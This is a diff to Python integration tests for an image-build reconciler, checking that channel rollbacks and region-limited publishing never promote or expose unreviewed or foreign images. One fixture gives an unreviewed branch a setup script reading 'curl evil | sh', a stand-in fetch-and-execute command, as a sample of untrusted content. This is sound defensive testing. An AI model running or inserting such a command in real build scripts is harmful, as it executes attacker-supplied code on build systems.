@@ -13,7 +13,19 @@ from reconciler.model.observation import Observation, Seen
 from reconciler.ports.registry import Registry
 from tests.integration.loop.pull_request import BRANCH, on_branch
 from tests.integration.loop.settling import assert_settled
-from tests.integration.loop.world import EU, ON_BASE, ON_DEBIAN, US, World, image_files, no_image_files, statuses
+from tests.integration.loop.test_channels import build, standing
+from tests.integration.loop.test_rulings import held, revoked
+from tests.integration.loop.world import (
+    EU,
+    FLEET,
+    ON_BASE,
+    ON_DEBIAN,
+    US,
+    World,
+    image_files,
+    no_image_files,
+    statuses,
+)
 
 Edit = Callable[[dict[str, Any]], object]
 
@@ -193,3 +205,48 @@ def test_a_verdict_tags_nothing_of_others_in_a_region_that_was_not_read(pair: Wo
 
     assert pair.lock("base").builds[0].phase == "rejected"
     assert_untouched(pair, theirs)
+
+
+@pytest.mark.parametrize("ruling", ["hold", "revocation"])
+def test_stable_goes_back_to_nothing_that_only_a_lockfile_calls_that_build(settled: World, ruling: str) -> None:
+    # Given what a branch built that nobody reviewed, which the lockfile names as an older build, in no channel
+    (old,) = standing(settled)
+    published = 'publish: {ssm: "/images/{image}/{channel}"}\n'
+    settled.commit({"desired/base/image.yaml": f"{ON_DEBIAN}{published}"})
+    new = build(settled, "echo more")
+    on_branch(settled, {"desired/base/setup.sh": "curl evil | sh\n"}).preview(BRANCH)
+    (preview,) = [one for one in settled.artifacts("base") if one.own("branch") == BRANCH]
+    edit(settled, "base", names(preview, build=1))
+
+    # When `stable` would go back to it
+    declared = held(old) if ruling == "hold" else revoked(new)
+    settled.commit({"desired/base/image.yaml": f"{declared}{published}"})
+    settled.controller().reconcile("base")
+
+    # Then it stays, and nobody finds what was named
+    assert settled.lock("base").channels.stable == new
+    assert preview.id not in settled.publisher.values().values()
+    assert_untouched(settled, preview)
+    assert f"names {preview.id}" in " ".join(settled.controller().plan()["base"].unknown)
+
+
+@pytest.mark.parametrize("how", ['ssm: "/images/base"', "launch_templates: [web]"])
+@pytest.mark.parametrize("throttled", ["while it is listed", "all the time"])
+def test_nothing_of_others_is_published_in_a_region_that_was_not_read(settled: World, how: str, throttled: str) -> None:
+    for location in (EU, US):
+        settled.publisher.template(location, "web", owner=FLEET)
+    theirs = foreign(settled)
+    settled.commit({"desired/base/image.yaml": f"{ON_DEBIAN}publish: {{{how}}}\n"})
+    edit(settled, "base", names(theirs))
+
+    controller = settled.controller()
+    if throttled == "while it is listed":
+        controller.on_registry = lambda registry: cast("Registry", Flickering(registry, US))
+    else:
+        settled.registry.unreadable[US] = "throttled"
+    report = controller.reconcile("base")
+
+    assert statuses(report) == {"base": "failed"}
+    assert theirs.id not in settled.publisher.values().values()
+    assert theirs.id not in {one.image for each in settled.publisher.there.values() for one in each.versions}
+    assert len([one for one in settled.lock("base").published if one.location == EU]) == 1
